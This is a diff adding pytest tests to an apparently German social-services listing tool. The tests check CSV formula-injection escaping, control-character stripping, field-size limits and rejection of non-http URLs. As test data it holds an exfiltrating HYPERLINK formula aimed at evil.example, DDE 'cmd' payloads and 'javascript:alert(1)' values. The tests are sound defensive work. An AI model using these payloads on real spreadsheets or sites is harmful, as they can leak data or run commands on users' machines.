@@ -198,3 +198,108 @@ def test_hsds_control_characters_are_stripped_and_named(run_hsds: Callable[..., 
     assert (offer["name"], offer["description"]) == ("Schuldnerberatung[2J", "Zeile 1\nZeile 2")
     assert "services 5e0c5d4a-0000-4000-8000-000000000001: name: Steuerzeichen entfernt (U+0000, U+001B)" in printed
     assert "description: Steuerzeichen entfernt (U+007F)" in printed
+
+
+# --- 5: spreadsheet formulas in exports, flagged at import ---------------------------------------------
+
+
+def _listing_row(**cells: str) -> dict[str, str]:
+    return {"Nr": "TST-1", "Angebot": "Schuldnerberatung Beispiel", "Quelle": "https://example.org/a", **cells}
+
+
+def test_exported_cells_cannot_start_a_formula_and_read_back_the_same(tmp_path: Path) -> None:
+    """OWASP's CSV injection: a quote before ``=``, ``+``, ``-``, ``@``; the import takes it off again.
+
+    The choice for numbers: ``+43 1 2345678`` or ``-`` (digits, spaces, ``+ - ( ) / .`` only) stays as it is.
+    Excel reads such a cell at worst as a sum or a number: it names no function, no cell and no DDE
+    call, so nothing can run or leak, and a foreign phone number stays dialable (``'+43 ...`` would be
+    copied with its quote). German numbers are exported nationally (``03632 741528``) anyway.
+    """
+    from bot.listing import COLUMNS, read_listing, write_listing
+
+    hostile = {"Angebot": '=HYPERLINK("https://evil.example/?"&A1;"Klick")', "Träger": "+SUM(A1:A9)",
+               "Beschreibung": "-2+3+cmd|' /C calc'!A0", "Hinweis": "@SUM(1+1)*cmd|' /C calc'!A0",
+               "Ort": "\t=1+1", "Telefon": "+43 1 2345678", "Straße": "-", "Kategorie": "Beratung = Hilfe"}
+    path = tmp_path / "export.csv"
+    write_listing([_listing_row(**hostile)], path)
+    text = path.read_text(encoding="utf-8")
+    cells = text.splitlines()[1]
+    for formula in ('=HYPERLINK', "+SUM", "-2+3", "@SUM"):
+        assert f";'{formula}" in cells or f";\"'{formula}" in cells, formula
+    assert ";'\t=1+1;" in cells  # a tab in front is one of OWASP's formula starts too
+    assert ";+43 1 2345678;" in cells and ";-;" in cells and ";Beratung = Hilfe;" in cells
+    listing = read_listing(path)
+    row = listing.rows[0].values
+    assert {c: row[c] for c in hostile} == {**hostile, "Ort": "=1+1"}  # (cells are read stripped)
+    assert sorted(w.split(": ")[1] for w in listing.warnings) == ["Angebot", "Beschreibung", "Hinweis", "Ort",
+                                                                   "Träger"]
+    assert listing.warnings[0] == (f"{path}:2: Angebot: beginnt mit '=' wie eine Tabellenformel "
+                                   f"({hostile['Angebot'][:40]!r}); in Exporten mit ' davor entschärft, bitte prüfen")
+    assert COLUMNS[0] == "Nr"
+
+
+def test_the_report_csv_cannot_start_a_formula(tmp_path: Path) -> None:
+    from bot.report import Finding, write_report_csv
+
+    path = tmp_path / "report.csv"
+    write_report_csv([Finding("doppelt", "tst-1", "=cmd|' /C calc'!A0", None, "+49 30 23125101 auch in x\x00",
+                              file="@x.yaml", line=3)], path)
+    row = path.read_text(encoding="utf-8").splitlines()[1]
+    # a number alone would stay as it is; with words after it a spreadsheet could read a formula
+    assert row == "mögliche Doppelungen;tst-1;;'=cmd|' /C calc'!A0;;'@x.yaml;3;'+49 30 23125101 auch in x"
+
+
+# --- 13: listing details --------------------------------------------------------------------------------
+
+
+def test_a_5_mb_field_is_refused_as_too_large(tmp_path: Path) -> None:
+    from bot.listing import ListingError, read_listing, write_listing
+
+    path = tmp_path / "gross.csv"
+    write_listing([_listing_row(Beschreibung="x" * 5_000_000)], path)
+    with pytest.raises(ListingError) as refused:
+        read_listing(path)
+    assert refused.value.problems == [f"{path}:2: Beschreibung: Feld zu groß (mehr als 131.072 Zeichen)"]
+    write_listing([_listing_row(Angebot="Tafel " * 60, Beschreibung="x" * 5001)], path)
+    with pytest.raises(ListingError) as refused:
+        read_listing(path)
+    assert refused.value.problems == [f"{path}:2: Angebot: Feld zu groß: 359 Zeichen, höchstens 300",
+                                      f"{path}:2: Beschreibung: Feld zu groß: 5.001 Zeichen, höchstens 5.000"]
+
+
+def test_control_characters_are_stripped_at_import_and_named(tmp_path: Path) -> None:
+    from bot.importer import dump_offers, import_listing
+    from bot.listing import read_listing
+
+    path = tmp_path / "steuer.csv"
+    header = ";".join(["Nr", "Angebot", "Träger", "Kategorie", "Schlagworte", "Zielgruppe", "Beschreibung",
+                       "Straße", "PLZ", "Ort", "Landkreis", "Ansprechperson", "Telefon", "E-Mail", "Webseite",
+                       "Sprechzeiten", "Hinweis", "Quelle", "Stand"])
+    row = "TST-1;Tafel\x00 Beispiel;;;;;Ausgabe\x1b[31m rot\x7f;;;;;;;;;;;https://example.org/a;"
+    path.write_text(header + "\n" + row + "\n", encoding="utf-8")
+    listing = read_listing(path)
+    assert listing.rows[0]["Angebot"] == "Tafel Beispiel" and listing.rows[0]["Beschreibung"] == "Ausgabe[31m rot"
+    assert listing.warnings == [f"{path}:2: Angebot: Steuerzeichen entfernt (U+0000)",
+                                f"{path}:2: Beschreibung: Steuerzeichen entfernt (U+001B, U+007F)"]
+    offers_file, summary = import_listing(listing, None, None)
+    assert "\x00" not in dump_offers(offers_file) and summary.warnings[:2] == listing.warnings
+
+
+@pytest.mark.parametrize("source", ["javascript:alert(1)", "Flyer 2023", "ftp://example.org/a"])
+def test_a_listing_row_without_a_web_source_is_refused(tmp_path: Path, source: str) -> None:
+    from bot.listing import ListingError, read_listing, write_listing
+
+    path = tmp_path / "quelle.csv"
+    write_listing([_listing_row(Quelle=source)], path)
+    with pytest.raises(ListingError) as refused:
+        read_listing(path)
+    assert refused.value.problems == [f"{path}:2: Quelle: {source!r} ist keine Webadresse (http/https); jedes "
+                                      "Angebot nennt die Seite, von der es stammt"]
+
+
+def test_a_website_that_is_no_http_address_is_not_taken(tmp_path: Path) -> None:
+    from bot.importer import row_to_offer
+
+    result = row_to_offer(_listing_row(Webseite="javascript:alert(1)"), "x.csv", None)
+    assert result.offer.website is None
+    assert result.warnings == ["Webseite: keine Webadresse: javascript:alert(1)"]
